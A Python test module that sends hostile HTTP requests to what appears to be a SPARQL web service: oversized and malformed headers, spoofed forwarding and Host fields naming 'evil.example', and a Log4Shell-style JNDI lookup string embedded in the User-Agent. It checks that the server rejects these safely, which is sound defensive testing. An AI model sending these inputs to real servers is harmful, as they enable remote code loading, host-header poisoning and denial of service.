"""Header fields made to confuse, to choke or to lie."""

from tests.hostile.case import BROKEN, OK, TOO_LONG, Case, case, lacks, lacks_field, table
from tests.hostile.messages import ENDPOINT, HOST, NOTHING, escaped, get, message, query_post, request

TARGET = f"{ENDPOINT}?query={escaped(NOTHING)}"
START = f"GET {TARGET} HTTP/1.1"
CLOSE = "Connection: close"
ROWS = "application/sparql-results+json"
FAR = "evil.example"


def _asks(*fields):
    return get(TARGET, *fields)


_ACCEPTS = (
    ("10,000 ranges in one Accept", "Accept: " + ",".join(f"a/b{n % 10}" for n in range(10_000))),
    ("1,000 ranges in one Accept", "Accept: " + "a/b;q=0.1," * 700 + ROWS),
    ("5,000 commas in Accept", "Accept: " + "," * 5000),
    ("2,000 parameters in Accept", "Accept: */*" + ";a=b" * 1900),
    ("An open quote in Accept", 'Accept: text/html;a="' + "\\" * 5000),
    ("Weights that are no numbers", "Accept: text/html;q=NaN, text/turtle;q=inf, */*;q=-1, a/b;q=1e309"),
    ("A weight of 4,000 digits", "Accept: text/html;q=0." + "9" * 4000),
    ("A weight in other digits", "Accept: text/html;q=\u0661".encode()),
    ("A range of nothing but slashes", "Accept: /////, /, */, /*"),
    ("An empty Accept", "Accept:"),
    ("Bytes that are no text in Accept", b"Accept: \xff\xfe\x80/\xc3"),
)
_VALIDATORS = (
    ("1,000 tags in If-None-Match", "If-None-Match: " + ",".join(f'"{n}"' for n in range(1000))),
    ("Open quotes in If-None-Match", "If-None-Match: " + 'W/"' * 2000),
    ("A star and more in If-None-Match", 'If-None-Match: *, "a", *'),
    ("If-Match of an unknown tag", 'If-Match: "nothing"'),
    ("A date beyond all years", "If-Modified-Since: Sat, 31 Dec 99999999999 23:59:59 GMT"),
    ("A date that is none", "If-Modified-Since: Foo, 99 Bar -1 99:99:99 XYZ"),
    ("A date before all years", "If-Unmodified-Since: Mon, 01 Jan 0000 00:00:00 GMT"),
)
_RANGES = (
    ("1,000 ranges of bytes", "Range: bytes=" + ",".join(f"{n}-{n}" for n in range(1000))),
    ("Ranges that overlap", "Range: bytes=" + "0-," * 1000 + "0-"),
    ("A range without end or sense", "Range: bytes=99999999999999999999-0,--,-"),
    ("A range in an unknown unit", "Range: parsecs=1-2"),
    ("A date in If-Range", "Range: bytes=0-1\r\nIf-Range: Sat, 31 Dec 99999 23:59:59 GMT"),
)
_LIES = (
    ("X-Forwarded-Host", f"X-Forwarded-Host: {FAR}"),
    ("X-Forwarded-Proto and -Prefix", f"X-Forwarded-Proto: javascript\r\nX-Forwarded-Prefix: //{FAR}"),
    ("Forwarded", f"Forwarded: host={FAR};proto=https;for=127.0.0.1"),
    ("X-Original-URL", f"X-Original-URL: //{FAR}/"),
    ("Script-Name", f"Script-Name: //{FAR}\r\nSCRIPT_NAME: //{FAR}"),
    ("the field Host", f"Host: {FAR}"),
)


def _lie(fields):
    start = "GET /sparql HTTP/1.1"
    host = [] if fields.startswith("Host:") else [HOST]
    return message(start, *host, CLOSE, "Accept: text/html, text/turtle;q=0.5", fields)


CASES: tuple[Case, ...] = (
    *table(((name, _asks(field)) for name, field in _ACCEPTS), *OK, 400, 406, 431, bare=True),
    case("60 Accepts of 8 kB each", _asks(*["Accept: " + "a/b," * 2000] * 60), *OK, 400, 406, 431, bare=True),
    case(
        "60 Accepts of 8 kB for a page that is not there",
        get("/none", *["Accept: " + "a/b;q=0.1," * 800] * 60),
        404,
        400,
        406,
        431,
        bare=True,
    ),
    *table(((name, _asks(field)) for name, field in _VALIDATORS), *OK, 304, 400, 412, 431, bare=True),
    *table(
        ((f"{name}, of a file", get("/static/style.css", field)) for name, field in _VALIDATORS[3:]),
        *OK,
        304,
        400,
        412,
        bare=True,
    ),
    *table(((name, get("/static/style.css", field)) for name, field in _RANGES), *OK, 206, 400, 416),
    case(
        "A range of a file that could be packed",
        get("/static/style.css", "Range: bytes=0-4999", "Accept-Encoding: gzip, zstd"),
        206,
        guard=lacks_field("Content-Encoding"),
    ),
    case("A range of an answer", _asks("Range: bytes=0-0"), *OK, 206),
    *table(
        ((f"A lie about the address in {name}", _lie(fields)) for name, fields in _LIES),
        *OK,
        *BROKEN,
        bare=True,
        guard=lacks(FAR),
    ),
    *table(
        (
            (f"A lie about a redirect in {name}", _lie(fields).replace(b"/sparql", b"/id/project/biopen", 1))
            for name, fields in _LIES
        ),
        303,
        *BROKEN,
        bare=True,
        guard=lacks(FAR),
    ),
    case("1,000 header fields", _asks(*[f"X-{n}: {n}" for n in range(1000)]), *OK, *TOO_LONG, bare=True),
    case("100,000 header fields", _asks(*[f"X-{n}: {n}" for n in range(100_000)]), *TOO_LONG, bare=True),
    case("A header of 100 kB", _asks("X-Long: " + "a" * 100_000), *OK, *TOO_LONG, bare=True),
    case("A header of 2 MB", _asks("X-Long: " + "a" * 2_000_000), *TOO_LONG, bare=True),
    case("A field name of 20 kB", _asks("X" * 20_000 + ": a"), *OK, *TOO_LONG, bare=True),
    case("A cookie of 8 kB in 2,000 parts", _asks("Cookie: " + "a=b;" * 2000), *OK, 400, 431, bare=True),
    case("A cookie of quotes", _asks('Cookie: a="' + "\\0" * 2000), *OK, 400),
    case(
        "Credentials that are none", _asks("Authorization: Basic ////=", "Proxy-Authorization: x"), *OK, 401
    ),
    case("A language of 8 kB", _asks("Accept-Language: " + "de-x," * 1500), *OK, 400, 431, bare=True),
    case("An unknown charset is wanted", _asks("Accept-Charset: utf-7, *;q=0"), *OK, 406),
    case("No coding is acceptable", _asks("Accept-Encoding: identity;q=0, *;q=0"), *OK, 406),
    case("All codings are wanted", _asks("Accept-Encoding: gzip, br, zstd, x-evil;q=9"), *OK),
    case(
        "A log line in the user agent",
        _asks(b"User-Agent: a\x1b[2J ${jndi:ldap://evil.example/a} %n%s"),
        *OK,
        *BROKEN,
        bare=True,
        guard=lacks_field("X-Smuggled"),
    ),
    case(
        "An upgrade to WebSocket",
        _asks(
            "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="
        ),
        *OK,
        *BROKEN,
        403,
        404,
        426,
        bare=True,
    ),
    case(
        "An upgrade to HTTP/2",
        message(
            START,
            HOST,
            "Connection: Upgrade, HTTP2-Settings, close",
            "Upgrade: h2c",
            "HTTP2-Settings: AAMAAABkAAQAAP__",
        ),
        *OK,
        *BROKEN,
        bare=True,
    ),
    case("An expectation that nobody has", _asks("Expect: the-unexpected"), *OK, 400, 417, bare=True),
    case(
        "Two types of content that quarrel",
        request(
            "POST",
            ENDPOINT,
            "Content-Type: application/sparql-query",
            "Content-Type: application/x-www-form-urlencoded",
            body=b"ASK {}",
        ),
        *OK,
        400,
        415,
        bare=True,
    ),
    case(
        "A type of content without end",
        query_post(NOTHING).replace(b"sparql-query", b'sparql-query; charset="' + b"a" * 7000),
        200,
        400,
        415,
        431,
        bare=True,
    ),
    case(
        "A type of content of semicolons",
        query_post(NOTHING).replace(b"sparql-query", b"sparql-query" + b";a=" * 2500),
        *OK,
        400,
        415,
        431,
        bare=True,
    ),
    case(
        "Continuations of a charset",
        query_post(NOTHING).replace(b"sparql-query", b"sparql-query; charset*0=u; charset*99999999999=f"),
        *OK,
        400,
        415,
    ),
    case(
        "A connection option names Host",
        message(START, HOST, "Connection: close, Host, Accept"),
        *OK,
        400,
        bare=True,
    ),
)
